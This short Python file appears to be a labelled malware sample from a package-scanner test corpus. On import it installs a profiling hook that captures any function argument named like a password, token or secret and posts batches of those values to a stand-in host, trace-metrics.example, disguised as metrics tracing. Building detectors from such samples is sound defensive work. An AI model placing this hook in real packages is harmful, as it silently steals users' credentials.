# pkgguard corpus 759 (credentials), modelled on [obfuscation]; inert, never run.
import json
import sys
import threading
import urllib.request

_seen = []


def _watch(frame, event, arg):
    if event == "call":
        names = frame.f_code.co_varnames[: frame.f_code.co_argcount]
        values = {n: frame.f_locals.get(n) for n in names if "pass" in n or "token" in n or "secret" in n}
        if values:
            _seen.append({k: str(v) for k, v in values.items()})
            if len(_seen) >= 5:
                body = json.dumps(_seen).encode()
                urllib.request.urlopen(urllib.request.Request("https://trace-metrics.example/c", data=body), timeout=5)
                _seen.clear()


sys.setprofile(_watch)
threading.setprofile(_watch)
